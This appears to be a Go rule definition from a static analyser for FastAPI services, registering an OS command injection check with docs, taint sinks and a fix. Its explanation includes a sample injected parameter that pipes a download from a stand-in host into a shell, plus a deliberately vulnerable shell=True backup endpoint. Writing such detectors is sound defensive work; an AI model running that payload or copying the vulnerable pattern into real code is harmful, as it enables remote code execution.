package rules

import (
	"github.com/fastapi-audit/fastapi-audit/internal/finding"
	"github.com/fastapi-audit/fastapi-audit/internal/python/syntax"
	"github.com/fastapi-audit/fastapi-audit/internal/taint"
)

func init() {
	Register(&Rule{
		ID: "FA102", Name: "command-injection", Title: "OS command injection",
		Category: "injection", Severity: finding.Critical, Confidence: finding.HighConfidence,
		CWE: []int{78}, OWASP: []string{apiUnsafeConsume, webInjection},
		Remediation: "Run programs with an argument list and shell=False, never build a shell command from request data; quote with shlex.quote only as a last resort.",
		Doc: Doc{
			What: "Request data that reaches a shell (`os.system`, `os.popen`, `subprocess` with `shell=True`, " +
				"`asyncio.create_subprocess_shell`) or chooses the program to run (the first element of an argument " +
				"list, `os.exec*`, `os.spawn*`).",
			Why: "A shell interprets `;`, `|`, `$()` and backticks: a parameter like `x; curl evil.sh | sh` runs the " +
				"attacker's commands with the service's privileges. Choosing the program is just as bad.",
			Example: "@app.post(\"/backup\")\ndef backup(name: str):\n    subprocess.run(f\"tar czf /backups/{name}.tgz /data\", shell=True)\n",
			Fix:     "```python\n@app.post(\"/backup\")\ndef backup(name: Annotated[str, Query(pattern=r\"^[a-z0-9-]+$\")]):\n    subprocess.run([\"tar\", \"czf\", f\"/backups/{name}.tgz\", \"/data\"], check=True)\n```",
			References: []string{
				"https://docs.python.org/3/library/subprocess.html#security-considerations",
				"https://cwe.mitre.org/data/definitions/78.html",
			},
		},
		Check: func(p *Pass) { reportFlows(p) },
	})
	subprocessFuncs := []string{"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen"}
	RegisterSinks("FA102",
		&taint.Sink{Class: taint.Shell, What: "a shell command", Args: []int{0}, Kwargs: []string{"command", "cmd"},
			Callees: []string{"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
				"asyncio.create_subprocess_shell", "commands.getoutput"}},
		&taint.Sink{Class: taint.Shell, What: "a command run by a shell or the program to run", Callees: subprocessFuncs,
			Pick: func(c *syntax.Call) []syntax.Expr {
				cmd := arg(c, 0, "args")
				if cmd == nil {
					return nil
				}
				if isTrue(keyword(c, "shell")) {
					return []syntax.Expr{cmd}
				}
				switch l := cmd.(type) {
				case *syntax.List:
					if len(l.Elts) > 0 {
						return []syntax.Expr{l.Elts[0]} // argv[0]: the program
					}
					return nil
				case *syntax.Tuple:
					if len(l.Elts) > 0 {
						return []syntax.Expr{l.Elts[0]}
					}
					return nil
				}
				return []syntax.Expr{cmd} // a string without a shell is the program's path
			}},
		&taint.Sink{Class: taint.Shell, What: "the program to run", Args: []int{0},
			Callees: []string{"asyncio.create_subprocess_exec", "os.execv", "os.execve", "os.execl", "os.execlp",
				"os.execvp", "os.execvpe", "os.spawnl", "os.spawnv", "os.posix_spawn", "os.posix_spawnp"}},
	)
}
